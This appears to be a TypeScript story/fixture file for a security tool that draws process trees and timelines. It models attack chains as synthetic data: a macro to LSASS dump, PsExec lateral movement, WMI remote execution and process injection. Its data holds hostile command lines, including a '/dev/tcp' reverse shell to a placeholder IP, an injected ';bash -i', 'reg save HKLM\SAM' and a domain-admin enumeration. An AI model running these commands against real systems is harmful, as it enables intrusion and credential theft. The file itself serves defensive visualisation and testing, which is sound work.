// Attacks as an analyst meets them.
import { macroFrames } from '../src/options-preview/story';
import { frame, grow, noon, p } from './case';
import type { LineageCase } from './case';

/** A document with a macro, from the mail to the dump of LSASS. */
export const macroDocument = (): LineageCase => ({
  look: 'mail, document, shell, dump: one chain, open; the browser is rolled up',
  frames: macroFrames,
});

/** The same with the shell chosen: the decoded command, why, alerts, activity. */
export const macroDetail = (): LineageCase => ({
  look: 'everything about the shell, decoded',
  frames: macroFrames,
  focus: 'shell',
  options: { detail: 'always' },
  height: 760,
});

/** The same as a graph: the curve leads from the dumper to LSASS. */
export const macroGraph = (): LineageCase => ({
  look: 'the access to lsass is a curve between trees',
  frames: macroFrames,
  options: { view: 'graph' },
  focus: 'dump',
});

/** The same over time. */
export const macroTimeline = (): LineageCase => ({
  look: 'lanes by depth, diamonds for alerts, an arrow to lsass',
  frames: macroFrames,
  options: { view: 'timeline' },
  focus: 'dump',
});

/** PsExec from one host to another. */
export const psexecCrossHost = (): LineageCase => ({
  look: 'two hosts, joined by the logon and the service that it made',
  frames: [
    grow(
      [
        p(
          'cmd.exe',
          { id: 'c' },
          p('PsExec.exe', { id: 'ps', commandLine: 'PsExec.exe \\\\srv-02 -s cmd.exe', alertsMedium: 1 }),
        ),
      ],
      { host: 'ws-014' },
    ),
    grow(
      [
        p(
          'services.exe',
          { id: 'svc', user: 'SYSTEM' },
          p(
            'PSEXESVC.exe',
            { id: 'psvc', user: 'SYSTEM', alertsHigh: 1 },
            p(
              'cmd.exe',
              { id: 'rc', user: 'SYSTEM' },
              p('reg.exe', { id: 'reg', commandLine: 'reg save HKLM\\SAM sam.hiv', user: 'SYSTEM', alertsHigh: 1 }),
            ),
          ),
        ),
      ],
      { host: 'srv-02' },
    ),
    frame('edges', [
      {
        source: 'ps',
        target: 'psvc',
        sourceHost: 'ws-014',
        targetHost: 'srv-02',
        kind: 'service',
        time: noon + 8000,
        label: 'PSEXESVC',
        confidence: 'likely',
        evidence: 'logon type 3 from ws-014, then service PSEXESVC 2 s later',
      },
    ]),
  ],
});

/** The same as a graph. */
export const psexecGraph = (): LineageCase => ({
  ...psexecCrossHost(),
  look: 'the service joins the trees of two hosts',
  options: { view: 'graph' },
  focus: 'psvc',
});

/** WMI: the child of WmiPrvSE came from elsewhere. */
export const wmiRemote = (): LineageCase => ({
  look: 'WmiPrvSE starts a shell that a process of another host asked for',
  frames: [
    grow(
      [
        p('powershell.exe', {
          id: 'src',
          commandLine: 'Invoke-WmiMethod -ComputerName srv-07 -Class Win32_Process -Name Create',
          alertsMedium: 1,
        }),
      ],
      { host: 'ws-002' },
    ),
    grow(
      [
        p(
          'svchost.exe',
          { id: 'dcom' },
          p(
            'WmiPrvSE.exe',
            { id: 'wmi', user: 'NETWORK SERVICE' },
            p('cmd.exe', {
              id: 'out',
              user: 'CORP\\adm-tom',
              commandLine: 'cmd.exe /c net group "Domain Admins" /domain',
              alertsHigh: 1,
            }),
          ),
        ),
      ],
      { host: 'srv-07' },
    ),
    frame('edges', [
      {
        source: 'src',
        target: 'out',
        sourceHost: 'ws-002',
        targetHost: 'srv-07',
        kind: 'wmi',
        time: noon + 6000,
        label: 'Win32_Process.Create',
        confidence: 'likely',
        evidence: 'logon of adm-tom from ws-002 within 3 s',
      },
    ]),
  ],
});

/** A web shell on Linux that calls back. */
export const linuxReverseShell = (): LineageCase => ({
  look: 'apache, sh, bash -i over /dev/tcp, then sudo: paths and users of Linux',
  frames: [
    grow(
      [
        p(
          'systemd',
          { pid: 1, user: 'root', image: '/usr/lib/systemd/systemd' },
          p(
            'apache2',
            { image: '/usr/sbin/apache2', countNetwork: 40 },
            p(
              'sh',
              { image: '/usr/bin/sh', commandLine: "sh -c 'ping -c1 ;bash -i'", alertsHigh: 1 },
              p(
                'bash',
                {
                  image: '/usr/bin/bash',
                  commandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
                  alertsCritical: 1,
                  countNetwork: 1,
                },
                p('id', { image: '/usr/bin/id' }),
                p(
                  'sudo',
                  { image: '/usr/bin/sudo', commandLine: 'sudo -l', user: 'root' },
                  p('bash', { user: 'root', image: '/usr/bin/bash', alertsHigh: 1 }),
                ),
              ),
            ),
          ),
          p('cron', { user: 'root', image: '/usr/sbin/cron' }),
        ),
      ],
      { host: 'web-01', user: 'www-data' },
    ),
  ],
});

/** Injection from a loader into a browser. */
export const injection = (): LineageCase => ({
  look: 'the loader injects into a process that it did not start',
  frames: [
    grow([
      p(
        'explorer.exe',
        p('loader.exe', { id: 'l', alertsHigh: 1, image: 'C:\\Users\\Public\\loader.exe' }),
        p('msedge.exe', { id: 'e', countNetwork: 12 }, p('msedge.exe', { id: 'e2' })),
      ),
    ]),
    frame('edges', [
      { source: 'l', target: 'e', kind: 'inject', time: noon + 5000, label: 'CreateRemoteThread', level: 'high' },
    ]),
  ],
  focus: 'l',
  options: { view: 'graph' },
  height: 360,
});
